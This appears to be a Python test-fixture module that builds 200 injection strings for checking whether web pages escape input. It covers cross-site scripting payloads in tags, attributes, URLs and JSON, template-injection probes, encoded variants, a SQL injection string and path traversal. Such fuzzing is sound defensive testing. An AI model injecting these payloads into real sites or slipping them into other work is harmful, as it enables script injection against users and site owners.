"""Two hundred texts that would run a script where a page is careless: in text, in attributes, in addresses, in JSON."""

from itertools import product

_TAGS = (
    "<script>alert({n})</script>",
    "<ScRiPt>alert({n})</sCrIpT>",
    "<script src=//x.test/{n}></script>",
    "<script\n>alert({n})</script >",
    "<<script>alert({n})//<</script>",
    "<img src=x onerror=alert({n})>",
    "<img/src=x/onerror=alert({n})>",
    "<img src=x onerror=alert`{n}`>",
    "<svg onload=alert({n})>",
    "<svg/onload=alert({n})//",
    "<svg><script>alert({n})</script></svg>",
    "<svg><animate onbegin=alert({n})>",
    "<math><mtext><img src onerror=alert({n})>",
    "<body onload=alert({n})>",
    "<iframe src=javascript:alert({n})>",
    "<iframe srcdoc='<script>alert({n})</script>'>",
    "<object data=javascript:alert({n})>",
    "<embed src=javascript:alert({n})>",
    "<a href=javascript:alert({n})>x</a>",
    "<a href='java&#9;script:alert({n})'>x</a>",
    "<form action=javascript:alert({n})><button>",
    "<button formaction=javascript:alert({n})>x",
    "<input autofocus onfocus=alert({n})>",
    "<select autofocus onfocus=alert({n})>",
    "<textarea autofocus onfocus=alert({n})>",
    "<details open ontoggle=alert({n})>",
    "<video><source onerror=alert({n})>",
    "<audio src=x onerror=alert({n})>",
    "<marquee onstart=alert({n})>",
    "<meta http-equiv=refresh content=0;//x.test/{n}>",
    "<base href=//x.test/{n}/>",
    "<link rel=stylesheet href=//x.test/{n}>",
    "<style>@import'//x.test/{n}';</style>",
    "<p style=background:url(//x.test/{n})>",
    "<template><script>alert({n})</script></template>",
    "<noscript><p title='</noscript><img src onerror=alert({n})>'>",
    "<x onclick=alert({n}) autofocus tabindex=1>",
    "<xmp><img src=x onerror=alert({n})></xmp>",
    "<!--><img src=x onerror=alert({n})>-->",
    "<![CDATA[<img src=x onerror=alert({n})>]]>",
    '<div data-do=\'{{"type":"undo"}}\'>{n}</div>',
    "<div data-prepend=log data-say={n}></div>",
    "<div id=offline>{n}</div>",
)
_ENDS = (  # out of what a text may stand in, with what follows
    *product(
        ('"', "'", ">", '">', "'>", "-->", "]]>", "`"), ("<img src=x onerror=alert({n})>", " onclick=alert({n}) x=")
    ),
    *product(
        ("</title>", "</textarea>", "</option></select>", "</script>", "</style>", "</svg>", "</p></div></main>"),
        ("<script>alert({n})</script>", "<svg onload=alert({n})>"),
    ),
)
_SIGNS = (  # what a template, a script, a style or a server might read as its own
    "{{{{{n}*7}}}}", "{{%print {n}%}}", "${{alert({n})}}", "#{{alert({n})}}", "<%=alert({n})%>",
    "{{{{constructor}}}}{n}",
    "javascript:alert({n})", "data:text/html,<script>alert({n})</script>", "vbscript:alert({n})",
    "&lt;script&gt;alert({n})&lt;/script&gt;", "&#60;script&#62;alert({n})", "%3Cscript%3Ealert({n})",
    "\\u003cscript\\u003ealert({n})", "\\x3cscript\\x3ealert({n})", "'-alert({n})-'", '"-alert({n})-"',
    "`-alert({n})-`",
    "\\';alert({n});//", '\\";alert({n});//', '"}};alert({n});//', "'}});alert({n});//", "*/alert({n})/*",
    "id: {n}\nevent: gone\ndata: {{}}", "{n}\u2028alert({n})\u2029", "\u202e>tpircs<{n}",
    "＜script＞alert({n})＜/script＞",
    '{{"type":"undo","n":{n}}}', "'\"><&{n}", "]]>{n}<![CDATA[", "{n}' or 1=1 --", "../../{n}", "{0}{n}%s%(x)s",
)  # fmt: skip
_SHAPES = (*_TAGS, *(end + after for end, after in _ENDS), *_SIGNS)
WANTED = 200
LONGEST = 70  # so that every field takes them


def _filled(shape: str, number: int) -> str:
    return shape.replace("{0}", "\0").format(n=number).replace("\0", "{0}")


def _all() -> tuple[str, ...]:
    """Every shape with a number of its own, as often as it takes."""
    result: list[str] = []
    while len(result) < WANTED:
        result += [_filled(shape, 1000 + len(result) + at) for at, shape in enumerate(_SHAPES)]
    return tuple(result[:WANTED])


INJECTIONS = _all()


def lines(longest: int, texts: tuple[str, ...] = INJECTIONS, *, several_lines: bool = False) -> list[str]:
    """All of them in as few texts of a length as will hold them; fields of one line keep no line breaks."""
    result: list[str] = []
    now = ""
    for text in texts:
        one = text if several_lines else " ".join(text.split("\n"))
        if now and len(now) + 1 + len(one) > longest:
            result.append(now)
            now = ""
        now = f"{now} {one}" if now else one
    return [*result, now]
